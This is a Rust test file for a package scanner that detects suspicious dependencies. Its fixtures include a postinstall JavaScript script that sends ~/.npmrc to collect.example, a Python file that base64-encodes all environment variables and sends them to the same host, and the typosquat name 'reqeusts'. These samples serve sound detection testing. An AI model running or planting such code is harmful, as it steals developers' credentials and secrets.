//! Suspicious packages as a user meets them: in a project, in a package, and by their names.

use std::path::Path;

use crate::program::run;

fn write(folder: &Path, path: &str, text: &str) {
    let path = folder.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

const MANIFEST: &str =
    r#"{"name": "tiny", "version": "1.0.0", "scripts": {"postinstall": "node lib/setup"}}"#;

const SCRIPT: &str = "const https = require('https')\n\
    const file = require('path').join(process.env.HOME, '.npmrc')\n\
    https.get({ hostname: 'collect.example', headers: { referer: require('fs').readFileSync(file) } })\n";

#[test]
fn an_installed_package_that_steals_comes_first() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "node_modules/tiny/package.json", MANIFEST);
    write(folder.path(), "node_modules/tiny/lib/setup.js", SCRIPT);
    write(
        folder.path(),
        "requirements.txt",
        "reqeusts==2.0\nflask>=1\n",
    );
    write(
        folder.path(),
        "linchpin.toml",
        "[packages]\ninternal = [\"acme-*\"]\n",
    );
    let target = folder.path().display().to_string();
    let outcome = run(&[
        "scan",
        "-q",
        "--only",
        "suspicious",
        &target,
        "--fail-on",
        "critical",
    ]);
    assert_eq!(
        (outcome.code, outcome.stderr.as_str()),
        (1, ""),
        "{outcome:?}"
    );
    for wanted in [
        "node_modules/tiny/lib/setup.js:2",
        "tiny reads keys at install",
        "reqeusts looks like requests",
        "1 of 2 requirements are not pinned",
    ] {
        assert!(
            outcome.stdout.contains(wanted),
            "{wanted}\n{}",
            outcome.stdout
        );
    }
    let next = outcome.stdout.split("Do next").nth(1).unwrap();
    let first = next.lines().nth(1).unwrap();
    assert!(
        first.contains("reads keys and talks to the network"),
        "{next}"
    );

    let skipped = run(&[
        "scan",
        "-q",
        "--skip",
        "suspicious",
        &target,
        "--fail-on",
        "low",
    ]);
    assert_eq!(skipped.code, 0, "{skipped:?}");
    assert!(
        !skipped.stdout.contains("code-steals"),
        "{}",
        skipped.stdout
    );
}

#[test]
fn all_code_of_a_package_is_read_that_is_the_target() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("tiny-1.0.0.tar");
    let mut archive = tar::Builder::new(std::fs::File::create(&path).unwrap());
    let thief = "import base64, os, requests\ntext = ''\nfor key, value in os.environ.items():\n    \
                 text += key + value\nrequests.get('https://collect.example/' + base64.b64encode(text))\n";
    for (name, content) in [
        ("tiny-1.0.0/PKG-INFO", "Name: tiny\n"),
        ("tiny-1.0.0/tiny/inner.py", thief),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        archive
            .append_data(&mut header, name, content.as_bytes())
            .unwrap();
    }
    archive.finish().unwrap();
    let outcome = run(&[
        "scan",
        "-q",
        &path.display().to_string(),
        "--fail-on",
        "high",
    ]);
    assert_eq!(outcome.code, 1, "{outcome:?}");
    assert!(
        outcome.stdout.contains("tiny-1.0.0/tiny/inner.py:3"),
        "{}",
        outcome.stdout
    );
}
